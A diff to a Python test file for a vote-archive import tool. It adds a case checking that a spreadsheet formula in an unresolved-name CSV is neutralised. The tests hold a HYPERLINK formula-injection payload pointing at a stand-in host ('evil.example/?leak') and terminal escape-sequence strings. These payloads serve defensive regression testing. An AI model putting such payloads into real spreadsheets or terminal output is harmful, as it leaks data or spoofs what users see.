@@ -19,7 +19,7 @@ from scorecard.safetext import (
 )
 
 from . import archives as A
-from .corpus import BUILD, VALIDATE, Case, check
+from .corpus import BUILD, VALIDATE, Case, check, invoke
 from .test_bad_input import replace
 
 ESC = "\x1b]0;pwned\x07\x1b[31m"  # set the window title, then turn the text red
@@ -101,6 +101,20 @@ def legiscan_member(member: str) -> Callable[[Path], None]:
     return setup
 
 
+def unresolved_names_are_text(root: Path) -> None:
+    """unresolved.csv (opened by people to map names) neutralises the formula, and a
+    second import reads it back unchanged."""
+    path = root / "votes" / "unresolved.csv"
+    with path.open(encoding="utf-8", newline="") as fh:
+        cells = [v for r in csv.DictReader(fh) for v in r.values()]
+    assert "'" + HYPERLINK in cells, cells
+    assert not [c for c in cells if c.startswith(("=", "+", "@"))], cells
+    before = path.read_bytes()
+    result = invoke(root, LS)
+    assert result.exit_code == 0, result.output
+    assert path.read_bytes() == before
+
+
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak","Ada")'
 LS = ["import", "legiscan", "{root}/NY_2023-2024.zip", "--into", "{root}/votes",
       "--roster", ROSTER]
@@ -120,6 +134,8 @@ CASES = [
     Case("unresolved-name-escape", legiscan_name(f"Walter {ESC}Pembrook"), LS,
          ("Walter \\x1b]0;pwned\\x07\\x1b[31mPembrook",), exit_code=0,
          absent=("\x1b", "\x07")),
+    Case("formula-in-unresolved-csv", legiscan_name(HYPERLINK), LS, ("Imported",),
+         exit_code=0, then=lambda root: unresolved_names_are_text(root)),
     Case("archive-member-name-escape",
          legiscan_member("NY/2023-2024_General_Assembly/vote/\x1b[2J\x1b]0;x\x07.json"), LS,
          ("NY_2023-2024.zip: NY/2023-2024_General_Assembly/vote/\\x1b[2J", "not valid JSON"),
